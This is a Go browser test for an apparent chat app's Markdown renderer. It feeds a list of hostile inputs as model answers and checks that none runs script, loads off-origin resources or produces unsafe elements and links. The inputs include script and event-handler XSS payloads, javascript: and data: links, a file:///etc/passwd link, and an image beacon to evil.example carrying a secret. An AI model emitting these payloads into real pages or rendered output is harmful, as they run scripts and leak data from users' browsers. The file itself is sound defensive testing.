package browser_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"parley/internal/test/fakemodel"
)

// attacks are texts by which a page that reads text as markup runs a script or asks another
// server.
func attacks() []string {
	return []string{
		`<script>window.hit = 1</script>`,
		`<img src=x onerror="window.hit = 1">`,
		`<svg onload="window.hit = 1"><script href="data:,window.hit=1"/></svg>`,
		`<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>`,
		`[click](javascript:window.hit=1) [click](JaVaScRiPt:window.hit=1) [click](data:text/html,<script>parent.hit=1</script>)`,
		"[a](java\nscript:alert(1)) [b](\x01javascript:alert(1)) [c](vbscript:x) [d](file:///etc/passwd) [e](//evil.example/x)",
		`![picture](https://evil.example/leak?q=secret) ![p](//evil.example/x.png) <img src="https://evil.example/y.png">`,
		"| <img src=x onerror=window.hit=1> | [x](javascript:window.hit=1) |\n|---|---|\n| <script>window.hit=1</script> | `<b>` |",
		"```\"><script>window.hit=1</script>\n</code></pre><script>window.hit=1</script>\n```",
		"```html onload=window.hit=1\n<script>window.hit = 1</script>\n```",
		`<style>@import "https://evil.example/s.css";</style><link rel=stylesheet href=https://evil.example/s.css>`,
		`<form action="https://evil.example"><input name=x autofocus onfocus="window.hit=1"></form>`,
		`<a href="x" onclick="window.hit=1" style="position:fixed;inset:0">all</a><base href="https://evil.example/">`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`,
		"[x]: javascript:window.hit=1\n\n[x] [y][x] ![z][x]", `<https://evil.example/> <javascript:window.hit=1>`,
		"{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= 1 %>", "&lt;script&gt;window.hit=1&lt;/script&gt;",
		strings.Repeat("> ", 200) + "deep", strings.Repeat("[", 3000) + strings.Repeat("](x)", 300), "\u202egnp.exe \u2066hidden\u2069 \u200b",
		`__proto__ constructor [__proto__](https://evil.example "onload=window.hit=1")`,
	}
}

// examples are the texts of the Markdown corpora, where there are some.
func examples(t *testing.T) (all []string) {
	t.Helper()
	folder := os.Getenv("PARLEY_CORPORA") //nolint:forbidigo // the tester names it
	if folder == "" {
		t.Log("the corpora of Markdown are not there: PARLEY_CORPORA is not set")
		return nil
	}
	files, err := filepath.Glob(filepath.Join(folder, "markdown", "*.json"))
	if err != nil || len(files) == 0 {
		t.Fatal("no corpora of Markdown in", folder, err)
	}
	for _, name := range files {
		raw, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		var cases []struct{ Markdown string }
		if err := json.Unmarshal(raw, &cases); err != nil {
			t.Fatal(name, err)
		}
		for i := range cases {
			all = append(all, cases[i].Markdown)
		}
	}
	return all
}

// TestHostileMarkdown: texts make no script, no request off the origin, and no element but those of
// the page.
func TestHostileMarkdown(t *testing.T) { //nolint:paralleltest // a browser has the machine to itself
	var texts []string
	texts = append(texts, attacks()...)
	var some strings.Builder
	for _, text := range examples(t) {
		some.WriteString(text + "\n\n")
		if some.Len() > 6000 {
			texts = append(texts, some.String())
			some.Reset()
		}
	}
	texts = append(texts, some.String()+"end")
	w := newWorld(t, func(r fakemodel.Request) fakemodel.Answer {
		var n int
		_, _ = fmt.Sscanf(r.LastUser(), "text %d", &n)
		return fakemodel.Say(texts[n])
	})
	b := w.browser()
	b.login()
	for i := range texts {
		b.write(fmt.Sprintf("text %d", i))
		b.until(fmt.Sprintf("answer %d", i), fmt.Sprintf(`document.querySelectorAll(".answer .tools").length > %d`, i))
	}
	b.until("the trees", `!document.querySelector(".answer .md.plain")`)
	b.everySize("hostile")
	type count struct {
		Hit      any      `json:"hit"`
		Elements []string `json:"elements"`
		Links    []string `json:"links"`
		Handlers int      `json:"handlers"`
		Clicks   int      `json:"clicks"`
	}
	found := eval[count](b, `(() => {
		const all = [...document.querySelectorAll(".answer .md *")];
		const links = all.filter((e) => e.localName === "a");
		return {
			hit: window.hit === undefined ? null : window.hit,
			elements: [...new Set(all.map((e) => e.localName))].sort(),
			links: [...new Set(links.map((a) => new URL(a.href).protocol))].sort(),
			handlers: all.filter((e) => [...e.attributes].some((a) => a.name.startsWith("on") || a.name === "style")).length,
			clicks: links.filter((a) => a.rel !== "noopener noreferrer" || a.target !== "_blank").length,
		};
	})()`)
	allowed := "a blockquote br button code div em figcaption figure h2 h3 h4 h5 h6 hr li ol p path pre s span strong svg table tbody td th " +
		"thead tr ul"
	for _, name := range found.Elements {
		if !strings.Contains(" "+allowed+" ", " "+name+" ") {
			t.Errorf("a text has made the element %s", name)
		}
	}
	for _, protocol := range found.Links {
		if protocol != "http:" && protocol != "https:" && protocol != "mailto:" {
			t.Errorf("a text has made a link of %s", protocol)
		}
	}
	if found.Hit != nil || found.Handlers > 0 || found.Clicks > 0 {
		t.Errorf("%+v", found)
	}
	b.clean()
}
